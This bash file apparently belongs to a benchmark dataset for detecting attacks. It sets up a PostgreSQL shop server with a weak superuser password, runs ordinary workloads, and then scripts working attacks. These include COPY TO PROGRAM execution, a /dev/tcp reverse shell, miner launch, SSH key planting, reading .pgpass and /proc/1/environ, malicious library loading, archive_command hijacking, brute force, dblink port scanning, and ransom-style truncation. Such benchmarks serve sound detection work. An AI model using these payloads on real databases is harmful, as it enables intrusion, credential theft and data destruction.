# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# postgres as the database of a shop: accounts, orders with documents, reports that sort on disk, a log
# that is archived by a command, logs in files, TLS. Its superuser's password is weak.

# shellcheck disable=SC2034,SC2154 # lib.bash and rare.bash read variables of this file, and set others
# shellcheck source=bench/dataset/databases.bash
. "${here:?}/databases.bash"

set=development containers=(postgres) port=5432 data_directory=/var/lib/postgresql/15/main volume_mb=400
pgbin=/usr/lib/postgresql/15/bin
pgetc=/etc/postgresql/15/main
configuration_file=$pgetc/postgresql.conf
health=("$pgbin/pg_isready" -q)
image_packages=(postgresql-15 postgresql-plpython3-15 bash coreutils findutils grep gzip dash base-files
	libc-bin tzdata hostname)
rare_own=(base_backup replica_attaches new_database extensions slow_query settings_changed backend_crash
	big_sort deadlock replication_slot tablespace foreign_data session_ended frozen csv_log certificate
	large_objects)

image_prepare() {
	local tree=$1 data=/var/lib/postgresql/15/main
	echo postgres:x:103:103::/var/lib/postgresql:/bin/bash >>"$tree/etc/passwd"
	echo postgres:x:103: >>"$tree/etc/group"
	mkdir -p "$tree"/var/lib/postgresql/15 "$tree"/var/lib/postgresql/archive "$tree"/var/log/postgresql \
		"$tree"/run/postgresql "$tree$pgetc/conf.d" "$tree/etc/ssl/private"
	echo '*:*:*:postgres:secret-of-the-replica' >"$tree/var/lib/postgresql/.pgpass"
	openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj /CN=service.example \
		-keyout "$tree/etc/ssl/private/postgres.key" -out "$tree/etc/ssl/postgres.pem" 2>/dev/null
	chmod 600 "$tree/etc/ssl/private/postgres.key" "$tree/var/lib/postgresql/.pgpass"
	chmod 711 "$tree/etc/ssl/private"
	chown -R 103:103 "$tree"/var/{lib,log}/postgresql "$tree"/run/postgresql "$tree/etc/postgresql" \
		"$tree/etc/ssl/private/postgres.key"
	rm -f "$tree/dev/null" "$tree/dev/urandom"
	mknod -m 666 "$tree/dev/null" c 1 3
	mknod -m 444 "$tree/dev/urandom" c 1 9
	echo secret >"$tree/tmp/password"
	chroot --userspec=103:103 "$tree" "$pgbin/initdb" -D "$data" -U postgres -E UTF8 --locale=C.UTF-8 \
		--auth-local=trust --auth-host=scram-sha-256 --pwfile=/tmp/password --wal-segsize=1 --no-sync \
		>"$tree/tmp/log" 2>&1 || { cat "$tree/tmp/log" >&2 && return 1; }
	rm "$tree"/tmp/{password,log} "$tree/dev/null" "$tree/dev/urandom"
	mv "$tree$data"/*.conf "$tree$pgetc/"
	mv "$tree$pgetc/postgresql.auto.conf" "$tree$data/"
	printf 'hostssl all all all scram-sha-256\nhost all,replication all all scram-sha-256\n' \
		>>"$tree$pgetc/pg_hba.conf"
	postgres_settings "$pgetc" >>"$tree$configuration_file"
}

postgres_settings() {
	cat <<-CONF
	data_directory = '/var/lib/postgresql/15/main'
	hba_file = '$1/pg_hba.conf'
	ident_file = '$1/pg_ident.conf'
	external_pid_file = '/run/postgresql/15-main.pid'
	include_dir = 'conf.d'
	listen_addresses = '*'
	unix_socket_directories = '/run/postgresql'
	ssl = on
	ssl_cert_file = '/etc/ssl/postgres.pem'
	ssl_key_file = '/etc/ssl/private/postgres.key'
	shared_preload_libraries = 'pg_stat_statements'
	shared_buffers = 16MB
	dynamic_shared_memory_type = posix
	work_mem = 256kB
	maintenance_work_mem = 8MB
	jit = off
	min_wal_size = 48MB
	max_wal_size = 80MB
	checkpoint_timeout = 30s
	archive_mode = on
	archive_timeout = 60s
	archive_command = 'test ! -f /var/lib/postgresql/archive/%f && cp %p /var/lib/postgresql/archive/%f'
	autovacuum_naptime = 5s
	autovacuum_vacuum_threshold = 20
	max_parallel_workers_per_gather = 2
	min_parallel_table_scan_size = 0
	parallel_setup_cost = 0
	logging_collector = on
	log_directory = '/var/log/postgresql'
	log_filename = 'postgresql-%H%M%S.log'
	log_checkpoints = on
	log_connections = on
	log_min_duration_statement = 200
	CONF
}

container_fields() {
	user=103:103 capabilities=() tmpfs=(/tmp) directory=/var/lib/postgresql
	arguments=("$pgbin/postgres" -D /var/lib/postgresql/15/main -c "config_file=$configuration_file")
	environment+=(POSTGRES_PASSWORD=secret HOME=/var/lib/postgresql)
	volumes=(/var/lib/postgresql /var/log/postgresql)
}

peers() {
	:
}

# in_database DATABASE SQL [psql OPTION…]: as the superuser; answers without heads.
in_database() {
	local database=$1 text=$2
	shift 2
	client "$pgbin/psql" -qAtX "$@" "host=$own_address user=postgres dbname=$database" -c "$text"
}

# sql SQL: as the shop's user.
sql() {
	client "$pgbin/psql" -qAtX "host=$own_address user=shop dbname=shop sslmode=${ssl_mode:-prefer}" -c "$1"
}

admin_sql() {
	in_database shop "$1"
}

# pg_bench [OPTION…]
pg_bench() {
	client env PGUSER=shop PGHOST="$own_address" PGSSLMODE="${ssl_mode:-prefer}" "$pgbin/pgbench" \
		-n "$@" shop
}

# The shop's tables are made when the server answers for the first time.
ready() {
	client "$pgbin/pg_isready" -q -h "$own_address" || return
	[ -z "$shop_is_made" ] || return 0
	in_database postgres "create role shop login password 'secret'"
	in_database postgres 'create database shop owner shop'
	sql "create table users (id serial primary key, name text unique, password text, email text,
			at timestamptz default now());
		create table orders (id serial primary key, user_id int references users, document jsonb,
			total numeric, at timestamptz default now());
		create table notes (id serial primary key, words text, vector tsvector);
		create index on orders (user_id); create index on notes using gin (vector);
		create view sales as select u.name, count(*), sum(o.total) from users u join orders o
			on o.user_id = u.id group by 1;
		create function total_of(n int) returns numeric language plpgsql as
			'begin return (select sum(total) from orders where user_id = n); end';
		insert into users (name, password, email) select 'user' || i, md5(i::text),
			'u' || i || '@example.org' from generate_series(1, 500) i;
		insert into orders (user_id, document, total) select 1 + i % 500, 
			jsonb_build_object('items', i % 7), i from generate_series(1, 4000) i" || return
	client env PGUSER=shop PGHOST="$own_address" "$pgbin/pgbench" -q -i shop || return
	in_database postgres checkpoint
	shop_is_made=1
}

shop_is_made=''

# order_work N: a customer's visit, as one session.
order_work() {
	local i u
	for ((i = 0; i < $1; i++)); do
		u=$((RANDOM % 500 + 1))
		echo "select id, name from users where name = 'user$u';"
		echo "begin; insert into orders (user_id, document, total)
			values ($u, '{\"items\": $((RANDOM % 9)), \"gift\": true}', $RANDOM);
			update users set at = now() where id = $u; $(likely 80 && echo commit || echo rollback);"
		echo "select document->>'items', total from orders where user_id = $u order by at desc limit 5;"
		likely 70 || echo "delete from orders where id in (select id from orders where user_id = $u
			order by at limit 1);"
	done
}

text_work() {
	local i
	for ((i = 0; i < $1; i++)); do
		echo "insert into notes (words, vector) select w, to_tsvector('english', w)
			from (select 'cats run to house $RANDOM' || repeat(' word', $((RANDOM % 2000))) w) s;"
	done
	echo "select id, ts_rank(vector, q) from notes, to_tsquery('english', 'cat & house') q
		where vector @@ q limit 10;"
	echo "update notes set words = words || 'x' where id % 9 = 0;
		delete from notes where id < (select max(id) - 400 from notes);"
}

report_work() {
	echo "select * from sales order by 3 desc limit 10;"
	echo "select bid, count(*), avg(abalance) from pgbench_accounts group by bid;"
	echo "select * from pgbench_accounts order by filler, abalance desc, aid limit $1;"
	echo "with t as (select user_id, total, rank() over (partition by user_id order by total) r from orders)
		select user_id, sum(total) from t where r < 4 group by 1 order by 2 desc limit 20;"
	echo "explain analyze select * from orders o join users u on u.id = o.user_id where total > $RANDOM;"
}

other_work() {
	echo "begin; declare c cursor for select * from orders; fetch 5 from c; savepoint a; select 1 / 0;
		rollback to a; commit;"
	echo "listen news; notify news, 'x'; create temp table s as select 
		generate_series(1, $(($1 * 100))) n; select sum(n) from s;"
	echo "select * from nowhere; select total_of($1), version(), now(), pg_database_size('shop');"
	echo "prepare p (int) as select name from users where id = \$1; execute p ($1); execute p (2);
		deallocate p;"
	echo "set statement_timeout = 50; select pg_sleep(1); reset statement_timeout; show work_mem;"
	echo "select * from pg_stat_activity; select relname, n_live_tup from pg_stat_user_tables;
		select * from pg_locks;"
	echo "select pg_advisory_lock($1); select pg_advisory_unlock($1); truncate pgbench_history;
		select random(), md5('$1');"
}

# shop_session [OPTION…]: statements from stdin.
shop_session() {
	client_stdin "$pgbin/psql" -qAtX "host=$own_address user=shop dbname=shop sslmode=${ssl_mode:-prefer}" "$@"
}

request() {
	local number=$RANDOM n=$((RANDOM % 30 + 3)) ssl_mode=prefer
	[ $((number % 3)) != 0 ] || ssl_mode=disable
	case $((RANDOM % 12)) in
	0) pg_bench -S -t $((n * 4)) -M prepared -c $((number % 4 + 1)) ;;
	1) pg_bench -t $((n * 2)) -c $((number % 4 + 1)) ;;
	2) pg_bench -N -t $((n * 2)) -M extended ;;
	3) pg_bench -S -C -t $((n / 4 + 1)) ;;
	4 | 5 | 6) generated "$number" order_work "$n" | shop_session ;;
	7) generated "$number" text_work "$n" | shop_session ;;
	8) generated "$number" report_work "$n" | shop_session ;;
	9) generated "$number" other_work "$n" | shop_session ;;
	10) seq "$n" | sed 's/.*/&\tname\t{}/' | shop_session -c 'create temp table t (a int, b text, c jsonb);
		copy t from stdin; copy (select * from t where a % 2 = 0) to stdout' ;;
	11) client env PGPASSWORD=wrong "$pgbin/psql" -X "host=$own_address user=shop dbname=shop" -c 'select 1' ;;
	esac >/dev/null
}

reload_service() {
	container_signal postgres HUP
}

administer() {
	admin_sql checkpoint
	admin_sql 'vacuum analyze'
	admin_sql 'vacuum full pgbench_branches'
	admin_sql 'reindex table pgbench_tellers'
	admin_sql 'select pg_rotate_logfile(), pg_switch_wal(), count(*) from pg_stat_statements'
	client "$pgbin/pg_dump" "host=$own_address user=postgres dbname=shop" -t users -t orders | wc -c
	reload_service
}

rare_base_backup() {
	client "$pgbin/pg_basebackup" -d "host=$own_address user=postgres" -D - -Ft -X fetch -c fast | wc -c
}

# A follower of the log, for a while.
rare_replica_attaches() {
	local dir
	dir=/tmp/wal-$(basename "$stage")
	mkdir -p "$images/clients$dir"
	client timeout 10 "$pgbin/pg_receivewal" -d "host=$own_address user=postgres" -D "$dir" || true
	rm -rf "$images/clients$dir"
}

rare_new_database() {
	in_database postgres 'create database other'
	in_database other 'create table t as select generate_series(1, 1000) n; create unlogged table u (n int)'
	in_database postgres 'alter database other rename to another'
	in_database postgres 'drop database another'
}

rare_extensions() {
	admin_sql 'create extension pg_trgm; create extension pgcrypto; create extension hstore;
		create extension pageinspect'
	admin_sql "select similarity('word', 'world'), crypt('a', gen_salt('bf', 4)), 'a=>1'::hstore;
		drop extension pg_trgm"
	admin_sql 'drop extension pgcrypto; drop extension hstore; drop extension pageinspect'
}

rare_slow_query() {
	admin_sql "set statement_timeout = '6s'; select count(*) from orders a, orders b, orders c
		where a.total < b.total + c.total"
	admin_sql 'select pg_stat_statements_reset()'
}

rare_settings_changed() {
	admin_sql "alter system set work_mem = '1MB'"
	admin_sql "alter system set log_statement = 'all'"
	admin_sql 'select pg_reload_conf()'
	sleep 5
	admin_sql 'alter system reset all'
	admin_sql 'select pg_reload_conf()'
}

# One backend dies, and the server begins all of them anew.
rare_backend_crash() {
	local pid
	admin_sql 'select pg_sleep(30)' &
	sleep 1
	for pid in $(tasks_named postgres 'postgres: postgres shop .*SELECT'); do
		kill -SEGV "$pid"
	done
	wait $! || true
	until_true "$patience" client "$pgbin/pg_isready" -q -h "$own_address"
}

rare_big_sort() {
	admin_sql "set work_mem = '64kB'; select a.filler, b.filler from pgbench_accounts a
		join pgbench_accounts b using (aid)
		order by a.filler, b.abalance limit 5"
	admin_sql 'create index big on pgbench_accounts (abalance, filler); drop index big'
}

rare_deadlock() {
	admin_sql 'begin; update users set email = 1 where id = 1; select pg_sleep(2);
		update users set email = 1 where id = 2' &
	admin_sql 'begin; update users set email = 1 where id = 2; select pg_sleep(2);
		update users set email = 1 where id = 1'
	wait $! || true
}

rare_replication_slot() {
	admin_sql "select pg_create_physical_replication_slot('follower', true)"
	sleep 2
	admin_sql "select pg_drop_replication_slot('follower'); select pg_ls_waldir()"
}

rare_tablespace() {
	session_as 103:103 postgres /bin/mkdir -p /var/lib/postgresql/fast
	admin_sql "create tablespace fast location '/var/lib/postgresql/fast'"
	admin_sql 'create table hot (n int) tablespace fast; insert into hot select generate_series(1, 1000)'
	admin_sql 'drop table hot'
	admin_sql 'drop tablespace fast'
}

rare_foreign_data() {
	admin_sql "create extension file_fdw; create server files foreign data wrapper file_fdw;
		create foreign table zones (a text) server files
			options (filename '/usr/share/zoneinfo/tzdata.zi'); select count(*) from zones; drop extension file_fdw cascade"
	admin_sql "create extension dblink;
		select * from dblink('host=127.0.0.1 user=postgres password=secret dbname=shop', 'select 1') t (a int); drop extension dblink"
}

rare_session_ended() {
	admin_sql 'select pg_sleep(20)' &
	sleep 1
	admin_sql "select pg_cancel_backend(pid), pg_sleep(1), pg_terminate_backend(pid) from pg_stat_activity
		where query like '%sleep(20)%' and pid <> pg_backend_pid()"
	wait $! || true
}

rare_frozen() {
	admin_sql 'vacuum freeze'
	client "$pgbin/vacuumdb" -h "$own_address" -U postgres -a -z -j 2
	admin_sql 'cluster pgbench_tellers using pgbench_tellers_pkey'
}

rare_csv_log() {
	printf "log_destination = 'csvlog,jsonlog'\n" >"$(image_path postgres "$pgetc/conf.d/log.conf")"
	reload_service
	sleep 4
	rm "$(image_path postgres "$pgetc/conf.d/log.conf")"
	reload_service
}

rare_certificate() {
	lasts
	local file
	file=$(image_path postgres /etc/ssl/postgres.pem)
	cp -p "$file" "$file.new"
	mv "$file.new" "$file"
	reload_service
}

rare_large_objects() {
	admin_sql "select lo_from_bytea(4711, repeat('large', 100000)::bytea); select length(lo_get(4711));
		select lo_unlink(4711)"
}

# The volume is full but for what the write-ahead log needs: without that, postgres ends.
rare_volume_full() {
	local disk room
	disk=$stage/volumes/postgres
	admin_sql checkpoint
	room=$(df --output=avail -BM "$disk" | tail -n 1 | tr -dc 0-9)
	fallocate -l "$((room - 12))M" "$disk/full"
	admin_sql 'create unlogged table big (t text); alter table big alter t set storage plain'
	admin_sql "insert into big select repeat('x', 2000) from generate_series(1, 20000)" || true
	sleep 5
	rm -f "$disk/full"
	admin_sql 'drop table if exists big'
}

# ---- attacks: the superuser's password is known, or an application takes SQL from its users ----

attack_copy_program() {
	harm exec '*/dash'
	admin_sql "create table out (t text); copy out from program 'id; uname -a; cat /etc/passwd';
		select * from out; drop table out" |
		tee "$stage/answer" | grep uid=103
}

attack_reverse_shell() {
	harm exec '*/dash'
	harm exec '*/bash'
	harm connect "$peer_address:4444"
	thief_shell 'id; ls; cat ~/.pgpass; exit'
	admin_sql "copy (select 1) to program 'bash -c \"exec bash -i >&/dev/tcp/$peer_address/4444 0>&1\"'"
	thief_got uid=103
}

attack_miner() {
	mining_begin /tmp/kdevtmpfsi
	admin_sql "copy (select 1) to program '${mining_command//\'/\"}'"
	pool_got
}

# A key that sshd takes.
attack_copy_file() {
	harm open /var/lib/postgresql/.ssh_keys
	admin_sql "copy (select 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQAB thief') to '/var/lib/postgresql/.ssh_keys'"
	session postgres /bin/grep thief /var/lib/postgresql/.ssh_keys
}

attack_read_secret() {
	harm open '/proc/1/environ'
	harm open /var/lib/postgresql/.pgpass
	harm open /etc/passwd
	admin_sql "select pg_read_file('/etc/passwd'), pg_read_file('/var/lib/postgresql/.pgpass'),
		encode(pg_read_binary_file('/proc/1/environ', 0, 4000), 'escape')" |
		tee "$stage/answer" | grep -a secret-of-the-replica
}

# A library comes in as a large object.
attack_library() {
	local so hex
	so=$(payload_library)
	hex=$(as_hex "$so")
	harm open /tmp/stats.so
	harm mapx /tmp/stats.so
	harm exec '*/dash'
	echo "select lo_from_bytea(4712, decode('$hex', 'hex')); select lo_export(4712, '/tmp/stats.so');
		select lo_unlink(4712);
		create function run_command(cstring) returns int
			as '/tmp/stats.so', 'postgres_run' language c strict;
		select run_command('id >/tmp/out'); drop function run_command(cstring)" |
		client_stdin "$pgbin/psql" -qAtX "host=$own_address user=postgres dbname=shop"
	session postgres /bin/grep uid=103 /tmp/out
}

attack_untrusted_language() {
	harm mapx '*/plpython3.so'
	harm exec '*/dash'
	admin_sql "create extension plpython3u"
	admin_sql "do language plpython3u
		'import os; os.system(\"id >/tmp/out; cat /proc/1/environ >>/tmp/out\")'"
	session postgres /bin/grep -a uid=103 /tmp/out
}

# The command that archives the log becomes another.
attack_archive_command() {
	harm exec '*/dash'
	harm open /tmp/out
	admin_sql "alter system set archive_command = 'id >/tmp/out; cp %p /var/lib/postgresql/archive/%f'"
	admin_sql 'select pg_reload_conf()'
	admin_sql 'create table x (n int); drop table x; select pg_switch_wal()'
	until_true 20 session postgres /bin/grep uid=103 /tmp/out
	admin_sql 'alter system reset archive_command'
	admin_sql 'select pg_reload_conf()'
	session postgres /bin/grep uid=103 /tmp/out
}

attack_brute_force() {
	local i
	harm call clone
	harm call accept
	for i in {1..60} secret; do
		client env PGPASSWORD="$i" "$pgbin/psql" -qAtX "host=$own_address user=postgres dbname=shop" \
			-c 'select 4711'
	done | grep -x 4711
}

# A backend searches the network, and reads what answers.
attack_scan() {
	local p
	harm connect '10.88.0.1:*'
	admin_sql 'create extension dblink'
	for p in 22 25 53 80 443 3306 5432 6379 8080 9200 11211 27017; do
		admin_sql "select dblink_connect('host=$peer_address port=$p connect_timeout=1 user=x')" 2>&1 ||
			true
	done | grep -c -e refused -e closed -e timeout
	admin_sql 'drop extension dblink'
}

backend_works() {
	tasks_named postgres 'postgres: shop shop .* SELECT' | grep .
}

attack_code_shell() {
	harm exec '*/dash'
	client "$pgbin/psql" -qAtX "host=$own_address user=shop dbname=shop" -c 'select pg_sleep(20)' &
	until_true 10 backend_works
	inject postgres 'postgres: shop shop' 'print (int) system("id >/tmp/out; cat ~/.pgpass >>/tmp/out")'
	wait $! || true
	session postgres /bin/grep uid=103 /tmp/out
}

# ---- adaptive: by statements, files and peers of every day ----

# Every table goes to the client.
adaptive_copy_all() {
	local table
	harm call sendto
	for table in $(admin_sql "select tablename from pg_tables where schemaname = 'public'"); do
		admin_sql "copy $table to stdout"
	done | wc -c >"$stage/answer"
	[ "$(cat "$stage/answer")" -gt 1000000 ]
}

# Every password becomes the attacker's, every order a gift.
adaptive_tamper() {
	harm call pwrite64
	echo "begin; update users set password = md5('mine'); update orders set total = 0; commit; checkpoint" |
		client_stdin "$pgbin/psql" -qAtX "host=$own_address user=postgres dbname=shop"
	[ "$(admin_sql "select count(*) from users where password <> md5('mine')")" = 0 ]
}

# All rows are gone, and a note says what to pay.
adaptive_ransom() {
	harm unlink '*/base/*'
	harm truncate '*/base/*'
	sql "begin; truncate orders, users, notes; insert into notes (words)
		values ('Pay, and get your data back'); commit"
	[ "$(admin_sql 'select count(*) from users')" = 0 ]
}

# The whole, as its administrators dump it.
adaptive_dump() {
	harm call sendto
	[ "$(client "$pgbin/pg_dump" "host=$own_address user=postgres dbname=shop" | wc -c)" -gt 1000000 ]
}
